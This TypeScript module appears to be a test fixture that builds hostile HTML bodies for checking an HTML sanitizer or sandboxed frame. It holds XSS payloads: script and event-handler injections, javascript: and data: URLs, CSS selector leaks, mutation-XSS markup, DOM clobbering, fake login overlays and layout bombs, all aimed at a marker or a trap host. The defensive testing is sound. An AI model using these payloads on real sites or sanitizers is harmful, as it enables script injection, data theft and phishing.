import { type HostileHtml, RAN_MARKER, TRAP_URL } from "./hostile-payload.ts";
import { hostileStyles } from "./hostile-styles.ts";
import { hostileTricks } from "./hostile-tricks.ts";

/**
 * HTML bodies that try to run something, to fetch something before the user asks, to leave their frame or to touch the
 * page around them. Each notes it in the window (RAN) if it runs, and asks for an address under TRAP if it loads.
 * The tricks are those of the public cheat sheets (OWASP XSS filter evasion, PortSwigger, cure53's DOMPurify and
 * HTTPLeaks collections), written in our own words.
 */
const ENCODED = encodeURIComponent(`<script>${RAN_MARKER}</script>`);
const BASE64 = Buffer.from(`<script>${RAN_MARKER}</script>`).toString("base64");
const url = (name: string) => `${TRAP_URL}/${name}`;

const HANDLERS = [
  ...[
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "onanimationend",
  ],
  ...["ontransitionend", "onbegin", "onend", "onrepeat", "ontoggle", "onpageshow", "onresize", "onscroll"],
  ...[
    "onwheel",
    "oncut",
    "onpaste",
    "oncopy",
    "ondrag",
    "onpointerover",
    "onpointerrawupdate",
    "onbeforetoggle",
  ],
  ...[
    "oncontentvisibilityautostatechange",
    "onsearch",
    "oninvalid",
    "onloadstart",
    "oncanplay",
    "onsecuritypolicyviolation",
  ],
];

const HANDLED = [
  "body",
  "img src=x",
  "svg",
  "details open",
  "input autofocus",
  "video src=x",
  "p",
  "marquee",
  "math",
];

const handlers = (): HostileHtml[] =>
  HANDLERS.flatMap((handler, at) =>
    [0, 1, 2].map((turn) => {
      const tag = HANDLED[(at + turn * 3) % HANDLED.length] ?? "p";
      const attribute = [
        `${handler}="${RAN_MARKER}"`,
        `${handler.toUpperCase()}=&#x74;op.ran&#61;1`,
        `/${handler}='${RAN_MARKER.replaceAll("'", "`")}'`,
      ][turn];
      return {
        name: `${tag} with ${handler}, way ${turn + 1}`,
        html: `<${tag} ${attribute}>words</${tag.split(" ")[0]}>`,
      };
    }),
  );

const scripts = (): HostileHtml[] =>
  Object.entries({
    plain: `<script>${RAN_MARKER}</script>`,
    "upper case": `<SCRIPT>${RAN_MARKER}</SCRIPT>`,
    "a slash for a space": `<script/x>${RAN_MARKER}</script>`,
    "within itself": `<scr<script>ipt>${RAN_MARKER}</scr</script>ipt>`,
    unclosed: `<script>${RAN_MARKER}`,
    remote: `<script src="${url("script")}"></script>`,
    "remote without a protocol": `<script src="//trap.daylight.test/script"></script>`,
    module: `<script type="module">${RAN_MARKER}</script>`,
    "import map": `<script type="importmap">{"imports":{"a":"${url("importmap")}"}}</script><script type=module>import "a"</script>`,
    speculation: `<script type="speculationrules">{"prefetch":[{"urls":["${url("speculation")}"]}]}</script>`,
    noscript: `<noscript><p title="</noscript><script>${RAN_MARKER}</script>"></noscript>`,
    "in a title": `<title><script>${RAN_MARKER}</script></title><title>&lt;/title&gt;<script>${RAN_MARKER}</script>`,
    "in a comment": `<!--><script>${RAN_MARKER}</script>--><!--[if true]><script>${RAN_MARKER}</script><![endif]--><!-- --!><script>${RAN_MARKER}</script>-->`,
    "in CDATA": `<![CDATA[<script>${RAN_MARKER}</script>]]>`,
    "after a NUL": `<scr\u0000ipt>${RAN_MARKER}</script>`,
    "in a template": `<template shadowrootmode="open"><script>${RAN_MARKER}</script></template>`,
    "xml stylesheet": `<?xml-stylesheet href="${url("xsl")}"?><script>${RAN_MARKER}</script>`,
    "in textarea": `<textarea><script>${RAN_MARKER}</script></textarea></textarea><script>${RAN_MARKER}</script>`,
    xmp: `<xmp><p title="</xmp><script>${RAN_MARKER}</script>">`,
    plaintext: `<plaintext><script>${RAN_MARKER}</script>`,
  }).map(([name, html]) => ({ name: `script ${name}`, html }));

const ADDRESSES = [
  `javascript:${RAN_MARKER}`,
  `JaVaScRiPt:${RAN_MARKER}`,
  `java\tscript:${RAN_MARKER}`,
  `java\nscript:${RAN_MARKER}`,
  ` \u0001javascript:${RAN_MARKER}`,
  `&#106;avascript&colon;${RAN_MARKER}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;top.ran=1`,
  `vbscript:msgbox(1)`,
  `data:text/html,${ENCODED}`,
  `data:text/html;base64,${BASE64}`,
  `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN_MARKER}"/>`).toString("base64")}`,
  `blob:${TRAP_URL}/x`,
  `file:///etc/passwd`,
  `view-source:${TRAP_URL}`,
  `filesystem:${TRAP_URL}/x`,
];

const addresses = (): HostileHtml[] =>
  ADDRESSES.flatMap((address, at) =>
    Object.entries({
      link: `<a href="${address}" id="l">click</a>`,
      image: `<img src="${address}">`,
      "image map": `<img src=x usemap="#m"><map name="m"><area shape="default" href="${address}"></map>`,
      frame: `<iframe src="${address}"></iframe><frame src="${address}"><frameset onload="${RAN_MARKER}">`,
      object: `<object data="${address}"></object><embed src="${address}"><applet code="${address}"></applet>`,
      form: `<form action="${address}"><button formaction="${address}">send</button><input type=image src="${address}"></form>`,
      "svg link": `<svg><a xlink:href="${address}"><text y=20>x</text></a><use href="${address}#x"/></svg>`,
    }).map(([name, html]) => ({ name: `${name} to address ${at + 1}`, html })),
  );

const loads = (): HostileHtml[] =>
  Object.entries({
    image: `<img src="${url("img")}">`,
    "image without a protocol": `<img src="//trap.daylight.test/img2">`,
    "image with backslashes": `<img src="\\\\trap.daylight.test\\img3">`,
    "image of ours": `<img src="/trap/img"><img src="trap/img">`,
    srcset: `<img srcset="${url("srcset")} 1x, ${url("srcset2")} 2x"><picture><source srcset="${url("source")}"><img src=x></picture>`,
    lowsrc: `<img lowsrc="${url("lowsrc")}" dynsrc="${url("dynsrc")}" longdesc="${url("longdesc")}">`,
    background: `<body background="${url("body")}"><table background="${url("table")}"><tr><td background="${url("td")}">x</table>`,
    "style attribute": `<p style="background:url(${url("style")})">x</p><p style="background-image:image-set('${url("set")}' 1x);list-style:url('${url("list")}');cursor:url(${url("cursor")}),auto">x`,
    "style element": `<style>@import '${url("import")}';@import url(${url("import2")});body{background:url(${url("css")})}@font-face{font-family:x;src:url(${url("font")})}*{font-family:x}</style>x`,
    "escaped style": `<style>b\\6fdy{background:\\75rl(${url("escaped")})}</style><p style="background:\\75\\72\\6c(${url("escaped2")})">x`,
    "read by selectors": `<style>input[value^="a"]{background:url(${url("leak-a")})}a[href*="token"]{background:url(${url("leak-token")})}</style><input value="abc"><a href="?token=1">x</a>`,
    "style breaking out": `<style></style/></style><style>*{background:url(${url("out")})}</style>`,
    "link element": `<link rel="stylesheet" href="${url("link")}"><link rel="prefetch" href="${url("prefetch")}"><link rel="dns-prefetch" href="//trap.daylight.test"><link rel="preconnect" href="${TRAP_URL}"><link rel="icon" href="${url("icon")}"><link rel="modulepreload" href="${url("module")}">`,
    base: `<base href="${TRAP_URL}/"><img src="base"><a href="x">x</a>`,
    "meta refresh": `<meta http-equiv="refresh" content="0;url=${url("refresh")}">`,
    "meta set-cookie": `<meta http-equiv="set-cookie" content="ran=1"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    video: `<video src="${url("video")}" poster="${url("poster")}" autoplay></video><audio src="${url("audio")}" autoplay></audio><track src="${url("track")}">`,
    "frame srcdoc": `<iframe srcdoc="<script>${RAN_MARKER}</script><img src=${url("srcdoc")}>"></iframe>`,
    object: `<object data="${url("object")}"><param name="movie" value="${url("movie")}"></object><embed src="${url("embed")}">`,
    svg: `<svg><image href="${url("svg-image")}" xlink:href="${url("svg-image2")}"/><use href="${url("use")}#a"/><filter id=f><feImage href="${url("fe")}"/></filter><rect filter="url(${url("filter")}#f)" width=9 height=9 /></svg>`,
    "svg style": `<svg><style>@import '${url("svg-import")}';</style><rect style="fill:url(${url("fill")}#a)"/></svg>`,
    mathml: `<math href="${url("math")}"><mglyph src="${url("mglyph")}"/><annotation-xml encoding="text/html"><img src="${url("annotation")}"></annotation-xml></math>`,
    ping: `<a href="https://example.org" ping="${url("ping")}">x</a>`,
    attribution: `<img attributionsrc="${url("attribution")}" src=x>`,
    manifest: `<html manifest="${url("manifest")}">`,
    "cid that is none": `<img src="cid:../../trap/cid"><img src="cid:%2e%2e/trap"><img src="cid:javascript:${RAN_MARKER}">`,
    "data picture that is no picture": `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${url("data-svg")}'/%3E%3C/svg%3E">`,
    "custom element": `<x-loader src="${url("custom")}" onconnected="${RAN_MARKER}"></x-loader><portal src="${url("portal")}"></portal><fencedframe src="${url("fenced")}"></fencedframe>`,
    bgsound: `<bgsound src="${url("bgsound")}"><layer src="${url("layer")}"></layer><ilayer src="${url("ilayer")}"></ilayer>`,
    "content attribute": `<style>p::before{content:url(${url("content")})}p{border-image:url(${url("border")}) 1;mask:url(${url("mask")});shape-outside:url(${url("shape")})}</style><p>x</p>`,
  }).map(([name, html]) => ({ name: `load by ${name}`, html }));

/** Markup that means one thing to a cleaner and another to a browser that reads its output again. */
const mutations = (): HostileHtml[] => {
  const inner = `<img src=x onerror="${RAN_MARKER}">`;
  const titled = `<p title="</style>${inner.replaceAll('"', "&quot;")}">`;
  return [
    `<svg><style><!--</style>${inner}--></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<svg></p><style><a id="</style>${inner.replaceAll('"', "'")}">`,
    `<noscript><style></noscript>${inner}`,
    `<svg><foreignObject><style>${titled}</style></foreignObject></svg>`,
    `<math><annotation-xml encoding="text/html"><style>${titled}</style></annotation-xml></math>`,
    `<select><style></select>${inner}</style>`,
    `<table><td><style></table>${inner}</style>`,
    `<svg><desc><style>&lt;/style&gt;${inner}</style></desc></svg>`,
    `<a title="\`\`onmouseover=${RAN_MARKER.replaceAll('"', "'")}">x</a>`,
    `<img alt="\`><img src=x onerror=top.ran=1>">`,
    `<listing>&lt;img src=1 onerror=top.ran=1&gt;</listing>`,
    `<style><style/>${inner}</style>`,
    `<style>/*</style>${inner}*/</style>`,
    `<div><![if !IE]>${inner}<![endif]></div>`,
    `<x/><title>&lt;/title&gt;${inner}</title>`,
    `<p id="</p>${inner.replaceAll('"', "&quot;")}">x`,
    `<svg><title><style><img src="</style>${inner.replaceAll('"', "'")}"></title></svg>`,
    `<br><br><math><mi><style><!--</mi></math>${inner}--></style>`,
  ].map((html, at) => ({ name: `mutation ${at + 1}`, html }));
};

/** Style that tries to leave its frame, to cover the page, or to make it slow. */
const covers = (): HostileHtml[] =>
  Object.entries({
    "fixed over all": `<div style="position:fixed;inset:0;z-index:2147483647;background:red">covered</div>`,
    "far outside": `<div style="position:absolute;left:-9999px;top:-9999px;width:99999px;height:99999px">x</div>`,
    "the app's own names": `<div id="app" class="app"><h1>Log in again</h1></div><style>#app,body,html,*{display:none!important}</style>`,
    clobbering: `<form id="app"><input name="body"><input name="attributes"><img name="defaultView"><a id="location"></a></form>`,
    "a dialog": `<dialog open style="position:fixed;inset:0">Log in<form method=dialog><input name=password type=password></form></dialog><div popover id=p>x</div>`,
    "a huge table": `<table>${"<tr><td>1<td>2<td>3".repeat(1000)}</table>`,
    "deep nesting": `${"<div>".repeat(3000)}deep${"</div>".repeat(3000)}`,
    "wide as ten screens": `<table width="20000"><tr><td width="20000">wide</td></tr></table>`,
    "a filter bomb": `<style>*{filter:blur(9px);animation:a .001s infinite}@keyframes a{to{transform:rotate(9turn)}}</style>${"<p>x</p>".repeat(20)}`,
    "a name for the top": `<a target="_top" href="https://example.org/top">x</a><a target="_parent" href="https://example.org/parent">y</a><a target="app" href="https://example.org">z</a>`,
    "autofocus and keys": `<input autofocus accesskey="j"><button accesskey="e">x</button><div contenteditable autofocus>y</div>`,
    "editable whole": `<body contenteditable onfocus="${RAN_MARKER}">x`,
  }).map(([name, html]) => ({ name: `cover by ${name}`, html }));

/** All of them, in a set order. */
export const hostileHtml = (): HostileHtml[] => [
  ...scripts(),
  ...handlers(),
  ...addresses(),
  ...loads(),
  ...mutations(),
  ...covers(),
  ...hostileStyles(),
  ...hostileTricks(),
];
